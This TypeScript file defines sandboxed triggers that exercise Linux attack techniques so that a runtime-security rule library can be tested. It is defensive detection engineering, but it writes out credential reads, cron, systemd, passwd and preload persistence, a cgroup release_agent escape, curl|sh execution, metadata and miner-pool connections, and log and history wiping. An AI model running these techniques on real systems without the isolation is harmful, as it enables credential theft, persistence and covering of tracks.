// Triggers for the rule library's part 1 (PAL-010 .. PAL-039, policies/rules): each does the technique the rule is
// about, with the same safety rules as triggers.ts (scratch directory, loopback, a network namespace of its own).
//
// Rules about system paths (/etc, /root, /var/spool/cron, /var/log) never touch the host's real files: the trigger
// runs in a private mount namespace (`unshare -m`, propagation private, so nothing leaks back) with a tmpfs mounted
// over the target directory. The process writes the real path, the kernel resolves it to that path (the tmpfs is
// mounted there, in the process's own root), so the event and the rule see exactly what an attacker's write looks
// like, while the host's /etc is untouched and the tmpfs disappears with the namespace when the trigger's shell
// exits. Kernel-facing techniques (module load, eBPF, ptrace, capset) are done with inputs the kernel rejects or
// with objects the trigger owns: a module file that is not ELF, a two-instruction socket filter that is closed at
// once, a ptrace of the trigger's own sleep child.
import { chmodSync, copyFileSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Trigger } from './triggers.js';

const PYTHON = '/usr/bin/python3';

/** argv: `script` in a private mount namespace where each of `dirs` is an empty tmpfs (see the header). */
export function withPrivateDirs(dirs: readonly string[], script: string): string[] {
  const mounts = dirs.map((d) => `mount -t tmpfs palisade-attack ${d}`).join(' && ');
  return ['unshare', '--mount', '--propagation', 'private', '/bin/sh', '-c', `${mounts} && ${script}`];
}

/** argv: a Python snippet in a network namespace of its own with loopback up (nothing can leave the node). */
export function inOwnNetns(py: string): string[] {
  return ['unshare', '--net', '/bin/sh', '-c', 'ip link set lo up && exec "$0" -c "$1"', PYTHON, py];
}

/** Python: a DNS A query for `name` sent to 127.0.0.1:53 (UDP; nobody needs to answer). */
export function pyDnsQuery(name: string): string {
  return 'import socket, struct\n' +
    `q = struct.pack(">HHHHHH", 0x5a5a, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in "${name}".split(".")) + b"\\0" + struct.pack(">HH", 1, 1)\n` +
    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(q, ("127.0.0.1", 53))\ns.close()\n';
}

/** Python: a TCP connect to addr:port that may fail (no route in an own netns), with a short timeout. */
export function pyConnect(addr: string, port: number): string {
  const fam = addr.includes(':') ? 'socket.AF_INET6' : 'socket.AF_INET';
  return `import socket\ns = socket.socket(${fam})\ns.settimeout(1)\ntry: s.connect(("${addr}", ${port}))\n` +
    'except OSError: pass\ns.close()\n';
}

const PY_LIBC = 'import ctypes, os, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n';

export const LIBRARY_TRIGGERS: readonly Trigger[] = [
  {
    rule: 'PAL-010',
    technique: 'T1552.004',
    what: 'reads a private key in ~/.ssh (cat and cp, in the scratch home) and tries the host keys in /etc/ssh',
    run: async (ctx) => {
      const ssh = join(ctx.scratch, '.ssh');
      mkdirSync(ssh, { mode: 0o700 });
      writeFileSync(join(ssh, 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\npalisade-attack\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 });
      return [await ctx.sh('cat "$HOME/.ssh/id_ed25519" > /dev/null; cp "$HOME/.ssh/id_ed25519" "$HOME/loot"; ' +
        'for k in /etc/ssh/ssh_host_*_key; do cat "$k" > /dev/null 2>&1; done; true')];
    },
  },
  {
    rule: 'PAL-011',
    technique: 'T1552.001',
    what: 'reads an AWS credentials file and a kubeconfig in the scratch home',
    run: async (ctx) => {
      mkdirSync(join(ctx.scratch, '.aws'));
      mkdirSync(join(ctx.scratch, '.kube'));
      writeFileSync(join(ctx.scratch, '.aws/credentials'), '[default]\naws_access_key_id = AKIAPALISADEATTACK\n');
      writeFileSync(join(ctx.scratch, '.kube/config'), 'apiVersion: v1\nkind: Config\n');
      return [await ctx.sh('cat "$HOME/.aws/credentials" > /dev/null; cat "$HOME/.kube/config" > /dev/null')];
    },
  },
  {
    rule: 'PAL-012',
    technique: 'T1528',
    what: 'cat of a service-account token at the in-cluster path (a private tmpfs over /run, laid out as the kubelet does)',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/run'],
      'd=/run/secrets/kubernetes.io/serviceaccount && mkdir -p "$d/..2026_01_01_00_00_00.1" && ' +
      'echo palisade-attack > "$d/..2026_01_01_00_00_00.1/token" && ln -s ..2026_01_01_00_00_00.1 "$d/..data" && ' +
      'ln -s ..data/token "$d/token" && cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null'))],
  },
  {
    rule: 'PAL-013',
    technique: 'T1003.007',
    what: 'reads the environment and opens the memory of another process (its own sleep child)',
    run: async (ctx) => [await ctx.sh('sleep 30 & p=$!; cat /proc/$p/environ > /dev/null; ' +
      'cat /proc/$p/mem > /dev/null 2>&1; kill $p; wait $p 2>/dev/null; true')],
  },
  {
    rule: 'PAL-014',
    technique: 'T1552.001',
    what: 'find -name id_rsa and grep -r password over the scratch directory',
    run: async (ctx) => [await ctx.sh('find "$HOME" -name "id_rsa*" > /dev/null; grep -ri password "$HOME" > /dev/null; true')],
  },
  {
    rule: 'PAL-015',
    technique: 'T1554',
    what: 'writes, renames into and chmods files in /etc and drops a binary in /root (private tmpfs over both)',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc', '/root'],
      'echo x > /etc/palisade-attack.conf && mkdir /etc/.palisade-attack && echo y > /etc/.palisade-attack/new && ' +
      'mv /etc/.palisade-attack/new /etc/palisade-attack.d; ' +
      'chmod 600 /etc/palisade-attack.conf; cp /usr/bin/true /root/.kworker'))],
  },
  {
    rule: 'PAL-016',
    technique: 'T1053.003',
    what: 'a job in /etc/cron.d, /etc/crontab replaced by rename, and crontab(1) installing a user crontab (private tmpfs over /etc and /var/spool)',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc', '/var/spool'],
      'mkdir -p /etc/cron.d /var/spool/cron/crontabs && echo "* * * * * root /tmp/palisade-attack" > /etc/cron.d/palisade-attack && ' +
      'echo "* * * * * root /tmp/palisade-attack" > /etc/crontab.new && mv /etc/crontab.new /etc/crontab; ' +
      'echo "* * * * * /tmp/palisade-attack" | busybox crontab -c /var/spool/cron/crontabs -; true'))],
  },
  {
    rule: 'PAL-017',
    technique: 'T1543.002',
    what: 'a service unit in /etc/systemd/system (private tmpfs over /etc) and a user unit in ~/.config/systemd/user',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc'],
      'unit="[Service]\nExecStart=/tmp/palisade-attack"; mkdir -p /etc/systemd/system "$HOME/.config/systemd/user" && ' +
      'printf "$unit" > /etc/systemd/system/palisade-attack.service && printf "$unit" > "$HOME/.config/systemd/user/palisade-attack.service"'))],
  },
  {
    rule: 'PAL-018',
    technique: 'T1098.004',
    what: 'appends a key to ~/.ssh/authorized_keys (the scratch home)',
    run: async (ctx) => [await ctx.sh('mkdir -p "$HOME/.ssh" && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPalisadeAttack palisade-attack" >> "$HOME/.ssh/authorized_keys"')],
  },
  {
    rule: 'PAL-019',
    technique: 'T1546.004',
    what: 'appends to ~/.bashrc (the scratch home) and drops a script in /etc/profile.d (private tmpfs over /etc)',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc'],
      'echo "/tmp/palisade-attack &" >> "$HOME/.bashrc" && mkdir -p /etc/profile.d && echo "/tmp/palisade-attack &" > /etc/profile.d/palisade-attack.sh'))],
  },
  {
    rule: 'PAL-020',
    technique: 'T1574.006',
    what: 'writes /etc/ld.so.preload (private tmpfs over /etc; nothing runs after it in that namespace)',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc'], 'echo /nonexistent/palisade-attack.so > /etc/ld.so.preload'))],
  },
  {
    rule: 'PAL-021',
    technique: 'T1136.001',
    what: 'a uid-0 line appended to /etc/passwd, then useradd (private tmpfs over /etc and /var/log, so lastlog is private too)',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc', '/var/log'],
      'touch /etc/group /etc/shadow /etc/gshadow && echo "palisade-attack:x:0:0::/nonexistent:/bin/sh" >> /etc/passwd && ' +
      'useradd -M -N -s /usr/sbin/nologin palisade-attack2'))],
  },
  {
    rule: 'PAL-022',
    technique: 'T1548.001',
    what: 'chmod u+s and chmod 2755 on a copy of sh in the scratch directory',
    run: async (ctx) => [await ctx.sh('cp /bin/sh ./palisade-attack-sh && chmod u+s ./palisade-attack-sh && chmod 2755 ./palisade-attack-sh')],
  },
  {
    rule: 'PAL-023',
    technique: 'T1068',
    what: 'a process running as nobody calls setuid(0) and setresuid(0, 0, 0) (both refused)',
    root: true,
    run: async (ctx) => [await ctx.run(['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', PYTHON, '-c',
      'import os\nfor f in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0)):\n  try: f()\n  except PermissionError: pass\n'])],
  },
  {
    rule: 'PAL-024',
    technique: 'T1548',
    what: 'capset drops CAP_NET_RAW from the effective set, then a second capset raises it again',
    root: true,
    run: async (ctx) => [await ctx.run([PYTHON, '-c', PY_LIBC +
      'class H(ctypes.Structure): _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]\n' +
      'class D(ctypes.Structure): _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32), ("inheritable", ctypes.c_uint32)]\n' +
      'd = (D * 2)()\nlibc.capget(ctypes.byref(H(0x20080522, 0)), d)\n' +
      'd[0].effective &= ~(1 << 13)\nlibc.capset(ctypes.byref(H(0x20080522, 0)), d)\n' +
      'd[0].effective |= 1 << 13\nassert libc.capset(ctypes.byref(H(0x20080522, 0)), d) == 0, ctypes.get_errno()\n'])],
  },
  {
    rule: 'PAL-025',
    technique: 'T1611',
    what: 'unshare of a user namespace and of a mount namespace, and nsenter (setns) into its own shell\'s namespaces',
    root: true,
    run: async (ctx) => [await ctx.sh('unshare --user true; unshare --mount true; nsenter --target $$ --net --uts true')],
  },
  {
    rule: 'PAL-026',
    technique: 'T1611',
    what: 'mounts proc and cgroup2 in a private mount namespace (scratch mount points), and runs debugfs',
    root: true,
    run: async (ctx) => [await ctx.run(['unshare', '--mount', '--propagation', 'private', '/bin/sh', '-c',
      'mkdir -p p c && mount -t proc proc p && umount p; mount -t cgroup2 none c && umount c; debugfs -V > /dev/null 2>&1; true'])],
  },
  {
    rule: 'PAL-027',
    technique: 'T1611',
    what: 'the CVE-2022-0492 shape: mounts its own cgroup v1 hierarchy (private mount namespace) and writes its release_agent',
    root: true,
    run: async (ctx) => [await ctx.run(['unshare', '--mount', '--propagation', 'private', '/bin/sh', '-c',
      // A named hierarchy of its own with no child cgroup: the agent can never run, and the kernel frees the
      // hierarchy at umount.
      'mkdir -p cg && mount -t cgroup -o none,name=palisadeattack cgroup cg && echo /bin/true > cg/release_agent; umount cg; true'])],
  },
  {
    rule: 'PAL-028',
    technique: 'T1055.008',
    what: 'PTRACE_ATTACH and PTRACE_SEIZE of its own sleep child, then detach and kill',
    root: true,
    run: async (ctx) => [await ctx.run([PYTHON, '-c', PY_LIBC +
      'import subprocess\nlibc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n' +
      'p = subprocess.Popen(["sleep", "30"])\n' +
      'if libc.ptrace(16, p.pid, None, None) == 0:\n  os.waitpid(p.pid, 0)\n  libc.ptrace(17, p.pid, None, 0)\n' +
      'libc.ptrace(0x4206, p.pid, None, None)\np.kill()\np.wait()\n'])],
  },
  {
    rule: 'PAL-029',
    technique: 'T1547.006',
    what: 'finit_module of a file that is not a module, and init_module of a zeroed buffer (both refused by the kernel)',
    root: true,
    // A kernel built without CONFIG_MODULES refuses both with ENOSYS; the collector still sees the attempts there
    // (bpf/progs/module_load.bpf.c: raw_syscalls filtered to the module syscall numbers).
    run: async (ctx) => [await ctx.run([PYTHON, '-c', PY_LIBC +
      'open("palisade-attack.ko", "wb").write(b"\\0" * 64)\nfd = os.open("palisade-attack.ko", os.O_RDONLY)\n' +
      'libc.syscall(313, fd, b"", 0)\nos.close(fd)\nbuf = ctypes.create_string_buffer(64)\nlibc.syscall(175, buf, 64, b"")\n'])],
  },
  {
    rule: 'PAL-030',
    technique: 'T1014',
    what: 'bpf(BPF_PROG_LOAD) of a two-instruction socket filter (r0 = 0; exit), closed at once and never attached',
    root: true,
    run: async (ctx) => [await ctx.run([PYTHON, '-c', PY_LIBC +
      'insns = (ctypes.c_uint64 * 2)(0xb7, 0x95)\nlic = ctypes.create_string_buffer(b"GPL")\n' +
      'attr = ctypes.create_string_buffer(128)\nstruct.pack_into("=IIQQ", attr, 0, 1, 2, ctypes.addressof(insns), ctypes.addressof(lic))\n' +
      'attr[48:63] = b"palisade_attack"\nfd = libc.syscall(321, 5, attr, 128)\nif fd >= 0: os.close(fd)\n'])],
  },
  {
    rule: 'PAL-031',
    technique: 'T1068',
    what: 'userfaultfd(O_CLOEXEC | O_NONBLOCK), closed at once',
    root: true,
    run: async (ctx) => [await ctx.run([PYTHON, '-c', PY_LIBC +
      'fd = libc.syscall(323, os.O_CLOEXEC | os.O_NONBLOCK)\nif fd >= 0: os.close(fd)\n'])],
  },
  {
    rule: 'PAL-032',
    technique: 'T1620',
    what: 'copies /usr/bin/true into a memfd and executes it from /proc/self/fd',
    run: async (ctx) => [await ctx.run([PYTHON, '-c',
      'import os\nfd = os.memfd_create("palisade-attack", 0)\nos.write(fd, open("/usr/bin/true", "rb").read())\n' +
      'os.execv("/proc/self/fd/%d" % fd, ["palisade-attack"])\n'])],
  },
  {
    rule: 'PAL-033',
    technique: 'T1059.004',
    what: 'curl ... | sh and eval "$(curl ...)" of a script served from the scratch directory (file://)',
    run: async (ctx) => {
      writeFileSync(join(ctx.scratch, 'install.sh'), 'echo palisade-attack\n');
      const url = `file://${join(ctx.scratch, 'install.sh')}`;
      return [
        await ctx.sh(`curl -fsS ${url} | sh`),
        await ctx.sh(`eval "$(curl -fsS ${url})"`),
      ];
    },
  },
  {
    rule: 'PAL-034',
    technique: 'T1105',
    what: 'runs dpkg and apt-get (read-only: print the architecture, the version)',
    run: async (ctx) => [await ctx.sh('dpkg --print-architecture > /dev/null; apt-get --version > /dev/null; true')],
  },
  {
    rule: 'PAL-035',
    technique: 'T1046',
    what: 'nc -z over a few ports of a loopback listener (busybox\'s nc, linked as nc: it rejects -z, the exec is the scan)',
    run: async (ctx) => {
      const port = await ctx.listen();
      const nc = join(ctx.scratch, 'nc');
      symlinkSync('/usr/bin/busybox', nc);
      return [await ctx.sh(`for p in ${port} 22 80; do ${nc} -z -w 1 127.0.0.1 $p; done; true`)];
    },
  },
  {
    rule: 'PAL-036',
    technique: 'T1613',
    what: 'curl to https://kubernetes.default.svc/api/v1/namespaces/default/secrets, resolved to a loopback listener',
    run: async (ctx) => {
      const port = await ctx.listen();
      return [await ctx.run(['curl', '-sk', '-m', '2', '--resolve', `kubernetes.default.svc:${port}:127.0.0.1`,
        `https://kubernetes.default.svc:${port}/api/v1/namespaces/default/secrets`])];
    },
  },
  {
    rule: 'PAL-037',
    technique: 'T1552.005',
    what: 'connects to 169.254.169.254:80 and looks up metadata.google.internal, in a network namespace of its own',
    root: true,
    run: async (ctx) => [await ctx.run(inOwnNetns(pyConnect('169.254.169.254', 80) + pyDnsQuery('metadata.google.internal')))],
  },
  {
    rule: 'PAL-038',
    technique: 'T1496',
    what: 'a binary named xmrig (a copy of true) run with a stratum+tcp:// pool on loopback',
    run: async (ctx) => {
      const miner = join(ctx.scratch, 'xmrig');
      copyFileSync('/usr/bin/true', miner);
      chmodSync(miner, 0o755);
      return [await ctx.run([miner, '-o', 'stratum+tcp://127.0.0.1:3333', '-u', 'palisade-attack', '--donate-level', '1'])];
    },
  },
  {
    rule: 'PAL-039',
    technique: 'T1496',
    what: 'connects to port 14444 of a TEST-NET address and looks up xmr-eu1.nanopool.org, in a network namespace of its own',
    root: true,
    // A miner stays connected; the trigger stays a moment too, as the pool's process would, rather than vanishing
    // with its pod cgroup before the collector has mapped that cgroup to a container.
    run: async (ctx) => [await ctx.run(inOwnNetns(pyDnsQuery('xmr-eu1.nanopool.org') + pyConnect('198.51.100.7', 14444) +
      'import time\ntime.sleep(2)\n'))],
  },
];

/** Triggers for the rule library's part 2 (PAL-040 .. PAL-047), over the exec-origin, file, socket and rename signals. */
export const LIBRARY_TRIGGERS_2: readonly Trigger[] = [
  {
    rule: 'PAL-040',
    technique: 'T1574.006',
    what: 'runs true with LD_PRELOAD and LD_AUDIT naming a (missing) library in the scratch dir, and LD_LIBRARY_PATH in /dev/shm',
    run: async (ctx) => [await ctx.sh(`LD_PRELOAD="${ctx.scratch}/libhook.so" /bin/true 2>/dev/null; ` +
      `LD_AUDIT="${ctx.scratch}/audit.so" /bin/true 2>/dev/null; LD_LIBRARY_PATH=/dev/shm/palisade-attack /bin/true; true`)],
  },
  {
    rule: 'PAL-041',
    technique: 'T1105',
    what: 'copies true into the scratch dir (below /tmp) and runs it from there',
    run: async (ctx) => {
      const bin = join(ctx.scratch, 'dropped');
      copyFileSync('/usr/bin/true', bin);
      chmodSync(bin, 0o755);
      return [await ctx.run([bin])];
    },
  },
  {
    rule: 'PAL-042',
    technique: 'T1036.004',
    what: 'python renames itself kworker/0:1 with prctl(PR_SET_NAME), then sshd through /proc/self/comm',
    run: async (ctx) => [await ctx.run([PYTHON, '-c', PY_LIBC +
      'libc.prctl(15, b"kworker/0:1", 0, 0, 0)\nimport time\ntime.sleep(0.2)\n' +
      'open("/proc/self/comm", "w").write("sshd")\ntime.sleep(0.2)\n'])],
  },
  {
    rule: 'PAL-043',
    technique: 'T1070.002',
    what: 'empties /var/log/auth.log with > and truncate -s 0, removes /var/log/wtmp (a private tmpfs over /var/log)',
    root: true,
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/var/log'],
      'echo "sshd: accepted" > /var/log/auth.log && echo x > /var/log/wtmp && echo y > /var/log/syslog && ' +
      ': > /var/log/auth.log && truncate -s 0 /var/log/syslog && rm -f /var/log/wtmp'))],
  },
  {
    rule: 'PAL-044',
    technique: 'T1070.003',
    what: 'clears a history in the scratch home: cp /dev/null over .bash_history, rm .zsh_history, ln -sf /dev/null .bash_history',
    run: async (ctx) => {
      writeFileSync(join(ctx.scratch, '.bash_history'), 'curl http://203.0.113.7/x | sh\n');
      writeFileSync(join(ctx.scratch, '.zsh_history'), ': 1700000000:0;wget x\n');
      return [await ctx.sh('cp /dev/null "$HOME/.bash_history"; rm -f "$HOME/.zsh_history"; ' +
        'ln -sf /dev/null "$HOME/.bash_history"; true')];
    },
  },
  {
    rule: 'PAL-045',
    technique: 'T1040',
    what: 'opens an AF_PACKET raw socket (ETH_P_ALL) and an AF_INET raw socket, in a network namespace of its own',
    root: true,
    run: async (ctx) => [await ctx.run(inOwnNetns('import socket\n' +
      's = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\ns.close()\n' +
      'r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)\nr.close()\n'))],
  },
  {
    rule: 'PAL-046',
    technique: 'T1003.008',
    what: 'symlinks /etc/shadow into the scratch dir (absolute and ../ spelled) and tries a hard link of /etc/sudoers',
    run: async (ctx) => [await ctx.sh(`cd "${ctx.scratch}" && ln -s /etc/shadow s && ln -s ../../../../../../etc/shadow s2; ` +
      'ln /etc/sudoers h 2>/dev/null; true')],
  },
  {
    rule: 'PAL-047',
    technique: 'T1070.006',
    what: 'timestomps a scratch file with touch -r /bin/ls and touch -d, shreds another, and tries chattr -i on it',
    run: async (ctx) => {
      writeFileSync(join(ctx.scratch, 'implant'), 'x');
      writeFileSync(join(ctx.scratch, 'notes'), 'secret');
      return [await ctx.sh('touch -r /bin/ls "$HOME/implant"; touch -d 2019-01-01 "$HOME/implant"; ' +
        'chattr -i "$HOME/implant" 2>/dev/null; shred -u "$HOME/notes"; true')];
    },
  },
  {
    rule: 'PAL-048',
    technique: 'T1105',
    what: 'the trigger\'s shell (the container\'s first process) copies true into the scratch dir after it started, then runs the copy',
    run: async (ctx) => [await ctx.sh('sleep 1; cp /usr/bin/true "$HOME/drifted" && chmod 755 "$HOME/drifted" && "$HOME/drifted"')],
  },
];
